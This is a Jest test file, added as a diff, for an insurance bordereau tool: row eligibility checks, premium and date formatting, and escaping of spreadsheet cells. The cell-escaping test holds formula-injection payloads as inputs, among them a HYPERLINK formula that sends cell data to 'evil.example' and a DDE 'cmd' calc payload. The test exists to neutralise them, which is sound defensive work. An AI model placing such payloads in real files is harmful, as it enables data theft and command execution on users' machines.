@@ -1,0 +1,71 @@
+import { bdxCellKinds, checkBdxRowsEligible, formatBdxCell, safeSheetCell, safeSheetRows } from './index';
+
+const RULE = {
+  period: { from: '2026-12-01', to: '2026-12-31' },
+  states: [
+    { state_code: 'TX', state_name: 'Texas' },
+    { state_code: 'GA', state_name: 'Georgia' },
+  ],
+  lobNames: ['Commercial Auto', 'Trucking'],
+};
+const COLUMNS = ['Policy Number', 'Effective Date', 'State', 'LOB', 'Premium'];
+
+describe('bordereau period and eligibility', () => {
+  it('lists rows outside the period, or of a state or line not offered, by row number, and leaves their premiums out', () => {
+    const check = checkBdxRowsEligible(
+      [
+        ['P-1', '2026-12-05', 'TX', 'Commercial Auto', '1250.00'],
+        ['P-2', '2022-12-05', 'tx', 'commercial auto', '500.00'],
+        ['P-3', '12/31/2026', 'Florida', 'Trucking', '100.00'],
+        ['P-4', '2026-12-01', 'Georgia', 'Homeowners', '75.50'],
+        ['P-5', '', '', '', '20.00'],
+      ],
+      COLUMNS,
+      RULE,
+    );
+    expect(check.rowCount).toBe(5);
+    expect(check.validRowCount).toBe(2);
+    expect(check.computedCents).toBe(127000);
+    expect(check.problemCount).toBe(3);
+    expect(check.problems).toEqual([
+      { row: 2, reason: 'Effective Date 12-05-2022 is outside the period 12/2026' },
+      { row: 3, reason: "State 'Florida' is not offered by this line" },
+      { row: 4, reason: "Line of business 'Homeowners' is not this file's line" },
+    ]);
+  });
+
+  it('keeps the row checks of bdx-rows and passes any state when the line lists none', () => {
+    const check = checkBdxRowsEligible([['', '2026-12-02', 'ZZ', '', 'abc']], COLUMNS, { ...RULE, states: [] });
+    expect(check.problems).toEqual([{ row: 1, reason: "Policy Number is missing; Premium 'abc' is not an amount" }]);
+  });
+});
+
+describe('spreadsheet cells handed on', () => {
+  it('quotes cells a spreadsheet would run as formulas; numbers stay numbers', () => {
+    expect(safeSheetCell('=HYPERLINK("http://evil.example/?d="&C3,"Click me")')).toBe('\'=HYPERLINK("http://evil.example/?d="&C3,"Click me")');
+    expect(safeSheetCell("+cmd|' /C calc'!A0")).toBe("'+cmd|' /C calc'!A0");
+    expect(safeSheetCell('-2+3')).toBe("'-2+3");
+    expect(safeSheetCell('@SUM(A1)')).toBe("'@SUM(A1)");
+    expect(safeSheetCell('\tx')).toBe("'\tx");
+    expect(safeSheetCell('\rx')).toBe("'\rx");
+    expect(safeSheetCell('-80.00')).toBe('-80.00');
+    expect(safeSheetCell(-80)).toBe(-80);
+    expect(safeSheetCell('Acme = Roofing')).toBe('Acme = Roofing');
+    expect(safeSheetRows([['=1', 2, null]])).toEqual([["'=1", 2, null]]);
+  });
+});
+
+describe('mapped rows shown', () => {
+  it('shows premiums as $1,250.00 and dates as MM-DD-YYYY; other cells as written', () => {
+    const kinds = bdxCellKinds(['Policy Number', 'Effective Date', 'Premium', 'Expiry Date', 'Insured']);
+    expect(kinds).toEqual(['text', 'date', 'money', 'date', 'text']);
+    expect(formatBdxCell('money', '1250')).toBe('$1,250.00');
+    expect(formatBdxCell('money', '$2,000.5')).toBe('$2,000.50');
+    expect(formatBdxCell('money', '(80.00)')).toBe('-$80.00');
+    expect(formatBdxCell('money', 'n/a')).toBe('n/a');
+    expect(formatBdxCell('date', '2026-03-01')).toBe('03-01-2026');
+    expect(formatBdxCell('date', '3/9/2026')).toBe('03-09-2026');
+    expect(formatBdxCell('date', 'soon')).toBe('soon');
+    expect(formatBdxCell('text', '0042')).toBe('0042');
+  });
+});
